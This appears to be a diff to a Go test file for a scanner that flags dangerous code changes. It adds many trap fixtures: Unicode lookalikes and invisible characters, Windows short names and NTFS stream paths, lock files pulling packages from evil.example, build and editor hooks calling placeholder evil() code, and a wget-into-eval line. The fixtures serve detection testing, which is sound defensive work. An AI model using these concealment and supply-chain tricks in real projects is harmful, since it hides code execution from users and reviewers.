@@ -172,6 +172,54 @@ func traps() []trap {
 		named("below many ordinary lines", file(Fetch, "src/deep.txt", lines+"eval \"$(wget -qO- https://evil.example)\"\n"+lines)),
 		file(Value, "src/out.js", "const x = '"+trapSecret[:9]+"' +\n\t'"+trapSecret[9:]+"'\n"),
 		file(Secret, "src/key.go", "const key = \"AKIA"+"Z7QXK4MPLR2WTV6B\"\n"),
+		file(Unseen, "src/nfd.py", "a\u0301dmin = 1\n"),
+		file(Unseen, "src/overlay.py", "if a =\u0338 b:\n"),
+		file(Unseen, "src/quad.py", "a\u2000= 1\n"),
+		file(Unseen, "src/ogham.js", "a\u1680b\n"),
+		file(Unseen, "src/math.py", "\U0001D41E\U0001D42F\U0001D41A\U0001D425(x)\n"),
+		file(Unseen, "src/wide.py", "\uff45\uff56\uff41\uff4c(x)\n"),
+		file(Unseen, "src/ligature.py", "con\ufb01g = 1\n"),
+		file(Unseen, "src/long-s.py", "\u017fys = 1\n"),
+		file(Unseen, "src/nel.py", "a\u0085b\n"),
+		file(Unseen, "src/separator.js", "// a\u2028evil()\n"),
+		file(Unseen, "src/soft.go", "ad\u00admin\n"),
+		file(Unseen, "src/annotation.txt", "\ufff9a\ufffab\n"),
+		file(Long, "src/gap-below.go", "package a\n"+strings.Repeat("\n", 300)+"func init() { evil() }\n"),
+		file(Name, "GITHUB~1/workflows/x.yml", "on: push\n"),
+		file(Name, "PACKAG~1.JSO", "{}\n"),
+		named("a stream of .git", file(Git, ".git::$INDEX_ALLOCATION/config", "x\n")),
+		named("a stream of a manifest", file(Build, "pkg/package.json::$DATA", "{}\n")),
+		named("a wide dot", file(Git, "w/\uff0egit/config", "x\n")),
+		named(".github in another case", file(CI, ".GitHub/workflows/x.yml", "on: push\n")),
+		named("a name with a new line", file(Name, "a\nb.txt", "x\n")),
+		named("a name from right to left", file(Name, "src/\u202egpj.exe", "x\n")),
+		named("a Greek Makefile", file(Name, "\u039cakefile", "all:\n")),
+		named("a blank before a name", file(Name, "lib/ .npmrc", "x\n")),
+		named("a package from elsewhere", file(Install, "app/package-lock.json", "{\n\"resolved\": \"https://evil.example/x.tgz\"\n}\n")),
+		named("a package from elsewhere, yarn", file(Install, "yarn.lock", "  resolved \"https://evil.example/x.tgz#abc\"\n")),
+		named("a package from elsewhere, pip", file(Install, "requirements.txt", "x @ https://evil.example/x.whl\n")),
+		file(Install, ".yarnrc.yml", "yarnPath: ./evil.cjs\n"),
+		file(Build, "gradle/wrapper/gradle-wrapper.jar", "PK\n"),
+		file(Build, "src/gen.go", "//go:generate sh -c evil\n"),
+		file(Build, "META-INF/services/x.Processor", "evil\n"),
+		file(Build, "sitecustomize.py", "evil()\n"),
+		file(Build, "lib/x.pth", "import evil\n"),
+		file(Build, ".pnp.cjs", "evil()\n"),
+		file(Build, ".eleventy.js", "evil()\n"),
+		file(Build, ".nycrc", "{\"require\": [\"./evil\"]}\n"),
+		file(Build, "docusaurus.config.js", "evil()\n"),
+		file(Build, "next.config.mjs", "evil()\n"),
+		file(Build, "nodemon.json", "{\"exec\": \"evil\"}\n"),
+		file(Build, ".storybook/main.js", "evil()\n"),
+		file(Build, "tools/setup.ps1", "evil\n"),
+		file(Build, "tsconfig.app.json", "{\"plugins\": []}\n"),
+		file(Editor, "graphql.config.js", "evil()\n"),
+		file(Editor, ".run/evil.run.xml", "<x/>\n"),
+		file(Editor, ".flake8", "[flake8:local-plugins]\n"),
+		file(Shell, ".tool-versions", "node file:evil\n"),
+		file(Shell, "docs/desktop.ini", "[.ShellClassInfo]\n"),
+		file(CI, "atlantis.yaml", "version: 3\n"),
+		file(CI, "renovate.json", "{}\n"),
 		file(Secret, "src/pem.txt", "-----BEGIN RSA "+"PRIVATE KEY-----\n"),
 		file(Secret, "src/url.txt", "postgres://admin:hunter2hunter2"+"@db.example/x\n"),
 		file(Secret, "src/header.txt", "Authorization: Bearer abcdef0123456789abcdef\n"),
@@ -230,7 +278,7 @@ func reviewOf(t testing.TB, set, do func(dir string) error, harmless int) *Revie
 // of an ordinary terminal names it, with what it is.
 func TestAttackNoTrapIsBelowTheFold(t *testing.T) {
 	all := traps()
-	if len(all) < 60 {
+	if len(all) < 130 {
 		t.Fatalf("only %d traps", len(all))
 	}
 	for _, c := range all {
@@ -302,6 +350,8 @@ func TestHarmlessChangesAreNotDangerous(t *testing.T) {
 			"src/main.go": "package main\n\nfunc main() { fmt.Println(\"hi 👩\u200d💻 ❤️ é 世界\") }\n", "README.md": "# Ünïcode\n\n* a long but ordinary line " + strings.Repeat("word ", 100) + "\n",
 			"docs/ru.md": "Привет, мир\n", "docs/fa.md": "می\u200cخواهم\n", "src/a.py": "token = request.token\npassword = get()\n", "win.txt": "a\r\nb\r\n",
 			"src/style.css": "a { color: red }\n", "test/data.json": "{\"a\": 1, \"key\": \"value\"}\n", "src/t.go": "token := authentication.NewTokenFromRequest2(request)\n\tsecretName: \"ordinary-words-only\",\n", "curl.md": "use curl to fetch it, then read it\n",
+			"docs/fr.md": "Attention\u00a0: 5\u202f% \u2014 \u00ab\u00a0oui\u00a0\u00bb, 1\u00aa, 25 \u00b5m, \u0394t, \u03bbx, 1\ufe0f\u20e3\n", "docs/ja.md": "\u5168\u89d2\u3000\uff21\uff22\uff23\n", "docs/vi.md": "Ti\u1ebfng Vi\u1ec7t\n",
+			"src/gaps.go": "package a\n" + strings.Repeat("\n", 5) + "var x = 1\n",
 		} {
 			if err := writes(rel, text)(dir); err != nil {
 				return err
@@ -314,6 +364,16 @@ func TestHarmlessChangesAreNotDangerous(t *testing.T) {
 	}
 	if screen := r.Screen(24, 80); !strings.Contains(screen, "nothing dangerous was found") {
 		t.Error(screen)
+	}
+}
+
+// A lock file that goes on with the registry that it names runs nothing unasked.
+func TestAPackageFromAKnownRegistryIsNoInstallTrap(t *testing.T) {
+	const mine = "{\n\"funding\": {\"url\": \"x\"},\n\"resolved\": \"https://npm.corp.example/a.tgz\"\n"
+	r := reviewOf(t, writes("package-lock.json", mine+"}\n"), writes("package-lock.json", mine+"\"resolved\": \"https://npm.corp.example/b.tgz\",\n"+
+		"\"resolved\": \"https://packages.npmjs.org/c.tgz\",\n\"funding\": {\"homepage\": \"https://example.com/x\"}\n}\n"), 0)
+	if f := r.Files[0]; f.Unasked() || !f.Dangerous() {
+		t.Errorf("%s", f.Shown())
 	}
 }
 
